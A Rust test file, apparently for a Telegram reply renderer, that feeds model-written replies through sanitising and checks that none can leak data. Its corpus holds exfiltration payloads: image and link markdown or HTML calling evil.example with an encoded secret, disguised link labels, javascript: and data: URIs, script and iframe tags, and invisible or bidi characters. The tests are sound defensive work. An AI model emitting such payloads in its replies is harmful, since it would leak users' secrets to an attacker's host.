//! Replies that try to carry something off: pictures from elsewhere, links that do not say where they lead, previews, and
//! characters that nobody sees. What is sent may hold none of it, whatever the model writes.

use channels::telegram::rendered;
use proptest::prelude::*;

/// What a reply would carry off, if it could.
const SECRET: &str = "c2VjcmV0";
/// Every tag that may be sent.
const TAGS: [&str; 7] = ["b", "i", "s", "code", "pre", "a", "blockquote"];

/// Replies as attackers write them.
fn corpus() -> Vec<String> {
    let evil = format!("https://evil.example/p?d={SECRET}");
    vec![
        format!("![x]({evil})"),
        format!("![x][1]\n\n[1]: {evil}"),
        format!("[![x]({evil})](https://good.example/)"),
        format!("<img src=\"{evil}\">"),
        format!("<IMG/SRC='{evil}' onerror=alert(1)>"),
        format!("<a href=\"{evil}\">your bank</a>"),
        format!("[your bank]({evil})"),
        format!("[https://good.example/]({evil})"),
        format!("[good.example]({evil} \"https://good.example\")"),
        format!("[\u{200b}]({evil})"),
        format!("[ ]({evil})"),
        format!("[.]({evil})"),
        format!("[good](https://good.example@evil.example/{SECRET})"),
        format!("[good](https://good.example\\@evil.example/{SECRET})"),
        "[x](tg://resolve?domain=evil)".to_owned(),
        "[x](javascript:alert(1))".to_owned(),
        "[x](data:text/html;base64,AAAA)".to_owned(),
        format!("<{evil}>"),
        evil.clone(),
        format!("| a |\n|---|\n| ![x]({evil}) |"),
        format!("- item\n  > ![x]({evil})"),
        format!("```\n![x]({evil})\n```"),
        format!("<iframe src={evil}></iframe><script src={evil}></script><style>@import '{evil}'</style>"),
        format!("<tg-emoji emoji-id=\"5\">x</tg-emoji><a href='{evil}'>x</a>"),
        "exe\u{202e}fdp.\u{2066}x\u{2069} pay\u{200b}pal \u{e0041}\u{e0042} \u{feff}\u{2060} \u{1b}[2J\u{7}".to_owned(),
        "&#x202e;&#8203;&#27;&lt;img src=x&gt;".to_owned(),
    ]
}

/// Why what is sent for this reply would be unsafe; none when it is clean.
fn unclean(reply: &str) -> Option<String> {
    let (body, text) = rendered(reply)?;
    let html = body["text"].as_str().unwrap_or_default();
    if body["link_preview_options"]["is_disabled"] != true {
        return Some("a preview would be fetched".to_owned());
    }
    let hidden = |c: char| {
        c != '\n'
            && c != '\t'
            && (c.is_control()
                || matches!(c, '\u{200b}' | '\u{200e}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}' | '\u{e0000}'..='\u{e0fff}'))
    };
    if let Some(character) = html.chars().chain(text.chars()).find(|character| hidden(*character)) {
        return Some(format!("it holds {character:?}"));
    }
    for tag in html.split('<').skip(1) {
        let name = tag.split(['>', ' ']).next().unwrap_or_default();
        if !TAGS.contains(&name.trim_start_matches('/')) {
            return Some(format!("it holds the tag <{name}>"));
        }
    }
    // A label in several styles is several pieces with one address; the host stands at the end of the last.
    for (at, mark) in html.match_indices("<a href=\"") {
        let (address, after) = html[at + mark.len()..].split_once("\">")?;
        let pieces = after.split(&format!("<a href=\"{address}\">")).collect::<Vec<_>>().join("");
        let host = address.split('/').nth(2).unwrap_or_default();
        let shown: String = pieces.chars().take(500).collect();
        if host.is_empty() || !shown.contains(host) {
            return Some(format!("a link to {address} does not say so"));
        }
    }
    None
}

#[test]
fn no_reply_of_the_corpus_carries_anything_off() {
    for reply in corpus() {
        assert_eq!(unclean(&reply), None, "{reply}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 300, ..ProptestConfig::default() })]
    #[test]
    fn no_mixture_of_them_does(parts in proptest::collection::vec((0usize..26, "[ \n*_`>|\\[\\]()!<-]{0,6}"), 1..6)) {
        let corpus = corpus();
        let reply: String = parts.iter().map(|(at, glue)| format!("{}{glue}", corpus[at % corpus.len()])).collect();
        prop_assert_eq!(unclean(&reply), None, "{}", reply);
    }
}

#[cfg(feature = "faults")]
#[test]
fn an_unclean_reply_needs_the_promise_broken() {
    types::faults::set_broken("24");
    assert!(corpus().iter().any(|reply| unclean(reply).is_some()));
}
